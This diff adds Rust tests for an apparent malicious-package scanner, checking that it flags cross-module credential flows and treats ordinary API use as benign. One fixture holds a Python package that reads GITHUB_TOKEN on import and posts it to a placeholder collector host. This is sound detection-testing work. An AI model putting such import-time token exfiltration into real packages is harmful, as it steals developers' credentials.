@@ -493,6 +493,52 @@ fn data_a_sibling_function_returns_flows_into_the_importers_send() {
 }
 
 #[test]
+fn data_a_sibling_module_holds_flows_into_the_importers_send() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pkg/config.py",
+                "import os\n\ndef _first(*names):\n    for n in names:\n        v = os.environ.get(n)\n        if v:\n            return v\n\nTOKEN = _first('GITHUB_TOKEN', 'GH_TOKEN')\n",
+            ),
+            (
+                "pkg/__init__.py",
+                "import requests\nfrom .config import TOKEN\nrequests.post('https://collector.example.invalid/u', json={'t': TOKEN})\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "malicious", "{report}");
+    let flows = flows_of(&report, "pkg/__init__.py");
+    assert!(flows.contains("GITHUB_TOKEN"), "{flows}");
+    assert!(flows.contains("imported as TOKEN"), "{flows}");
+    assert!(flows.contains("pkg/config.py:5"), "{flows}");
+}
+
+#[test]
+fn a_setting_a_sibling_module_holds_used_when_called_stays_benign() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pkg/config.py",
+                "import os\nDEBUG = os.environ.get('PKG_DEBUG')\nAPI_KEY = os.environ.get('OPENAI_API_KEY')\n",
+            ),
+            (
+                "pkg/client.py",
+                "import requests\nfrom .config import API_KEY, DEBUG\n\ndef complete(prompt):\n    return requests.post('https://api.openai.com/v1/completions', headers={'Authorization': f'Bearer {API_KEY}'}, json={'prompt': prompt, 'debug': DEBUG})\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "benign", "{report}");
+}
+
+#[test]
 fn data_passed_to_a_sibling_function_while_installing_flows_to_its_send() {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path().join("pkg-0.1");
